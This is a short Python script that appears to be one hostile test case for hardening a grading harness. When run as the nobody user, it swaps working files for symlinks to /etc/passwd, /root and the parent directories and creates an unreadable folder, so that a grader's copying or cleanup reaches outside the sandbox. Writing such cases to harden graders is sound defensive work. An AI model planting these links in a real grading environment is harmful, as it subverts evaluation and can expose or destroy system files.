# base: garbage
# The working folder is replaced by links to places outside, while the grading goes on.
# class: files
# gains: files that a grader copies, reads or cleans up through them
# ends: graded
# safe_in_process: no

# %% last
import os
from pathlib import Path

if os.getuid() == 65534:
    for name, target in (("gradebook.db", "/etc/passwd"), ("feedback", "/root"), ("up", "../../..")):
        try:
            Path(name).symlink_to(target)
        except OSError as error:
            print(error)
    os.mkdir("closed", 0o000)
